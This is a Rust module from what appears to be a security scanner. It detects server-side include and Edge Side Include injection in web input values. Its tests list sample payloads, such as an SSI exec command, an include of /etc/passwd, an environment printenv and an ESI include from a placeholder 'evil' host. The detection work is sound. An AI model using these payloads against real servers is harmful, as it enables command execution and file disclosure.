//! Server-side include injection: `<!--#exec cmd="…" -->` and its relatives, which a
//! server with SSI (or a cache with Edge Side Includes) runs when it serves a page
//! that echoes the value.
//!
//! An SSI directive is an HTML comment whose first character is `#` followed by a
//! directive name; an ordinary comment (`<!-- note -->`) or a `<!--#` followed by
//! anything else passes. ESI tags (`<esi:include src=…>`) are the same attack one
//! layer up, in the cache, and are judged here too.

use super::prefilter::{find_ci, ByteSet};
use super::{severity, Detector, Hit};

/// Directives of Apache/nginx/IIS SSI. `exec` runs commands, `include` reads
/// files, the rest leak environment or change how later directives behave.
const DIRECTIVES: &[&str] = &[
    "exec", "include", "echo", "config", "set", "printenv", "fsize", "flastmod", "if", "elif",
    "else", "endif", "block", "call",
];

fn hit(sev: u32, reason: &'static str) -> Option<Hit> {
    Some(Hit {
        detector: Detector::Ssi,
        severity: sev,
        reason,
    })
}

/// Checks one decoded form of a value.
pub fn check(s: &str) -> Option<Hit> {
    check_set(s, &ByteSet::of(s.as_bytes()))
}

/// [`check`] with the byte set of `s` already computed: every shape starts with `<`.
pub fn check_set(s: &str, set: &ByteSet) -> Option<Hit> {
    if !set.has(b'<') {
        return None;
    }
    let b = s.as_bytes();
    if set.has(b'#') && set.has(b'!') && set.has(b'-') {
        let mut i = 0;
        while let Some(off) = memchr::memmem::find(&b[i..], b"<!--") {
            let p = i + off + 4;
            i = p;
            let mut j = p;
            while matches!(b.get(j), Some(b' ' | b'\t')) {
                j += 1;
            }
            if b.get(j) != Some(&b'#') {
                continue;
            }
            j += 1;
            let start = j;
            while j < b.len() && b[j].is_ascii_alphabetic() && j - start < 10 {
                j += 1;
            }
            let name = &b[start..j];
            let ends_name = matches!(b.get(j), None | Some(b' ' | b'\t' | b'\n' | b'\r' | b'-'));
            if ends_name
                && DIRECTIVES
                    .iter()
                    .any(|d| name.eq_ignore_ascii_case(d.as_bytes()))
            {
                return hit(severity::CRITICAL, "ssi-directive");
            }
        }
    }
    if set.has(b':') && find_ci(b, b"<esi:") {
        return hit(severity::CRITICAL, "esi-tag");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn directives() {
        for s in [
            "<!--#exec cmd=\"ls\" -->",
            "<!--#EXEC cmd=\"dir\"-->",
            "<!-- #include virtual=\"/etc/passwd\" -->",
            "x<!--#echo var=\"DOCUMENT_ROOT\"-->",
            "<!--#printenv -->",
            "<esi:include src=\"http://evil/x\"/>",
        ] {
            assert!(check(s).is_some(), "{s}");
        }
    }

    #[test]
    fn benign_look_alikes() {
        for s in [
            "<!-- a normal comment -->",
            "<!--#123 ticket -->",
            "<!--#execute the plan -->",
            "issue #exec in the tracker",
            "see <b>#include</b>",
        ] {
            assert!(check(s).is_none(), "{s}");
        }
    }
}
